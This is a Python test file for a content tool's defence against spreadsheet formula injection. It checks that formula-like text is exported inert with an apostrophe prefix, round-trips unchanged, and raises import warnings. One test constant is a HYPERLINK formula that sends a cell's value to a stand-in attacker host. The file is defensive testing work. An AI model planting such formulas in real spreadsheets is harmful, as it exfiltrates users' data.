"""Formula injection (OWASP "CSV injection"): a text that starts with =, +,
-, @, a tab or a carriage return is exported so that no spreadsheet program
runs it, not even after LibreOffice saves the sheet as CSV; importing the
export gives back exactly the original text, and the import warns about it."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook
from staff_tools import CLUSTER, content_of, edit_workbook, edited, retitled, set_cell

from kiosk.cli import main
from kiosk.content.change.importer import apply_content
from kiosk.content.change.transfers import export_pack, export_workbook, import_pack, import_workbook
from kiosk.content.formats.spreadsheet_text import FORMULA_START, protect, unprotect
from kiosk.content.formats.workbook import read_workbook
from tests.support.missing import missing_part

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
#: Texts that must survive export and import unchanged, one per title language and the source quote.
TRICKY = {
    "en": ATTACK,
    "ru": "+7 (999) 123-45-67",
    "zh-Hans": "-智能家电",
}
QUOTE = "@SUM(1+1)\tand a tab"


@pytest.mark.parametrize("text", [ATTACK, "+1", "-", "@x", "\tx", "\rx", "'=x", "''", "'", "'plain", "plain", "", "''=x"])
def test_protect_then_unprotect_gives_back_the_text(text):
    stored = protect(text)
    assert unprotect(stored) == text
    assert not stored.startswith(FORMULA_START)


@pytest.fixture
def tricky(db):
    """The database with formula-like texts in one cluster."""
    content = content_of(db)
    for lang, title in TRICKY.items():
        content = retitled(content, "cluster", CLUSTER, lang, title)
    content = edited(content, "cluster", CLUSTER, source_quote=QUOTE)
    apply_content(db, content, actor="editor", action="edit")
    return content_of(db)


def cluster_row(path: Path):
    ws = load_workbook(path)["Clusters"]
    headers = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == CLUSTER)
    return {h: c for h, c in zip(headers, row)}


def test_export_writes_formula_like_text_as_text_with_an_apostrophe(db, tricky, tmp_path):
    book = export_workbook(db, tmp_path / "content.xlsx")
    cells = cluster_row(book)
    assert cells["title [en]"].value == "'" + ATTACK and cells["title [en]"].data_type == "s"
    assert cells["title [ru]"].value == "'+7 (999) 123-45-67"
    assert cells["source_quote"].value == "'" + QUOTE
    assert cells["title [zh-Hans]"].value == "'-智能家电"


def test_export_then_import_gives_back_exactly_the_original_text_and_warns(db, tricky, tmp_path):
    book = export_workbook(db, tmp_path / "content.xlsx")
    warnings: list = []
    result = import_workbook(db, book, actor="editor", warnings=warnings)
    assert not result.changed
    assert content_of(db) == tricky
    record = {r.slug: r for r in content_of(db).of("cluster")}[CLUSTER]
    assert record.t("title", "en") == ATTACK and record.source_quote == QUOTE
    said = [str(w) for w in warnings]
    assert any("sheet Clusters, row" in w and "(title [en]): starts with '='" in w for w in said)
    assert any("(source_quote): starts with '@'" in w for w in said)
    assert len(warnings) == 4


def test_a_formula_like_text_typed_without_apostrophe_is_imported_as_text_with_a_warning(db, tmp_path, capsys):
    book = export_workbook(db, tmp_path / "content.xlsx")
    wb = load_workbook(book)
    set_cell(wb, "Clusters", CLUSTER, "title [en]", "@cmd")
    wb.save(book)
    capsys.readouterr()
    assert main(["import", "workbook", str(book)]) == 0
    out = capsys.readouterr().out
    assert "1 warning(s), imported all the same" in out and "(title [en]): starts with '@'" in out
    record = {r.slug: r for r in content_of(db).of("cluster")}[CLUSTER]
    assert record.t("title", "en") == "@cmd"


def test_a_pack_import_warns_about_formula_like_text(db, tricky, tmp_path):
    pack = export_pack(db, tmp_path / "content.kioskpack").path
    warnings: list = []
    import_pack(db, pack, actor="staff", warnings=warnings)
    assert any(f"content/clusters.json, record {CLUSTER}, field text.title.en: starts with '='" in str(w) for w in warnings)


@pytest.fixture(scope="module")
def soffice(tmp_path_factory):
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if exe is None:
        missing_part("LibreOffice is not installed (bash build_scripts/dev.sh test installs libreoffice-calc-nogui when run as root)")
    profile = tmp_path_factory.mktemp("libreoffice-profile")

    def convert(source: Path, target: str) -> Path:
        out = source.parent / f"by-calc-{target.split(':')[0]}"
        out.mkdir(exist_ok=True)
        subprocess.run([exe, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to", target,
                        "--outdir", str(out), str(source)], check=True, capture_output=True, timeout=300)
        return out

    return convert


def test_libreoffice_keeps_the_text_inert_in_csv_and_in_xlsx(db, tricky, tmp_path, soffice):
    book = export_workbook(db, tmp_path / "content.xlsx")
    # Every sheet as CSV (the last option: -1 = all sheets, one file each), as Calc's "Save as CSV" does.
    out = soffice(book, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1")
    sheet = next(out.glob("*Clusters*.csv"))
    rows = list(csv.reader(sheet.open(encoding="utf-8")))
    cells = [cell for row in rows for cell in row]
    assert "'" + ATTACK in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]

    # Saved back as .xlsx by Calc and imported: the original texts, nothing changed.
    saved = next(soffice(book, "xlsx:Calc MS Excel 2007 XML").glob("*.xlsx"))
    result = import_workbook(db, saved, actor="editor")
    assert not result.changed and content_of(db) == tricky


def test_read_workbook_leaves_an_ordinary_leading_apostrophe_alone(db, tmp_path):
    book = export_workbook(db, tmp_path / "content.xlsx")
    edit_workbook(book, lambda wb: set_cell(wb, "Clusters", CLUSTER, "title [en]", "'Smart' appliances"))
    record = {r.slug: r for r in read_workbook(book).of("cluster")}[CLUSTER]
    assert record.t("title", "en") == "'Smart' appliances"
